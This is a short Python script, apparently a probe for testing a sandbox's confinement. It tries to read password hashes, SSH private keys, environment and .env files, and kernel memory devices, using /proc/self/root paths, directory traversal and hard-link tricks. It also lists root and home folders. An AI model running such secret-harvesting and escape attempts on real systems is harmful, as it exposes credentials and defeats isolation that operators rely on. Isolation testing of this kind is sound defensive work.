"""Reads what it should not: the file named by its task, and the usual places of secrets."""

import glob
import os
import sys

places = [sys.argv[2], "/etc/shadow", "/etc/passwd", "/proc/self/environ", "/proc/1/environ"]
places += [os.path.expanduser(p) for p in ("~root/.ssh/id_rsa", "/root/.bashrc", "~/../.env")]
places += glob.glob("/home/*/.bashrc") + ["/var/log/dpkg.log", "/dev/mem", "/dev/kmsg"]
for place in places:
    for way in (place, f"/proc/self/root{place}", f"{os.getcwd()}/../..{place}"):
        try:
            print("read", way, open(way, "rb").read(100))
        except OSError:
            pass
    try:
        os.link(place, "hard")
        print("linked", place, open("hard", "rb").read(100))
    except OSError:
        pass
for folder in ("/", "/root", "/home", "/tmp", "/proc", os.path.dirname(sys.argv[2] or "/")):
    try:
        print("listed", folder, os.listdir(folder))
    except OSError:
        pass
